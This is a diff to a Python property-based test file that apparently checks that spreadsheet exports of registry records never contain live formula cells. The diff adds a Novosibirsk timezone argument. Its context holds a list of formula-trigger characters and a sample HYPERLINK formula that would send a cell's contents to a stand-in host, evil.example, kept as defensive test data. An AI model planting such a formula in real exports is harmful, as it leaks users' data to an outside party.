@@ -13,6 +13,7 @@ import zipfile
 from datetime import date
 from pathlib import Path
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 from hypothesis import given
@@ -29,6 +30,7 @@ from storage.repositories.registry import OrgRecord, TosRecord
 from tests.conftest import ADMIN_ID
 from tests.kit import Person, running
 
+NOVOSIBIRSK = ZoneInfo("Asia/Novosibirsk")
 DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
 NUMBER_RE = re.compile(r"^-?\d+(\.\d+)?(e[-+]?\d+)?$")
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
@@ -120,7 +122,7 @@ def _export_row(what: str, data: st.DataObject) -> dict[str, Any]:
 def test_no_export_kind_writes_a_live_cell(data: st.DataObject, what: str, personal: bool) -> None:
     rows = [_export_row(what, data) for _ in range(data.draw(st.integers(1, 3)))]
     with i18n.context(), i18n.use_locale(data.draw(st.sampled_from(["ru", "en"]))):
-        table_rows = reporting.export_rows(what, rows, personal)
+        table_rows = reporting.export_rows(what, rows, personal, NOVOSIBIRSK)
     assert_safe(table_rows)
 
 
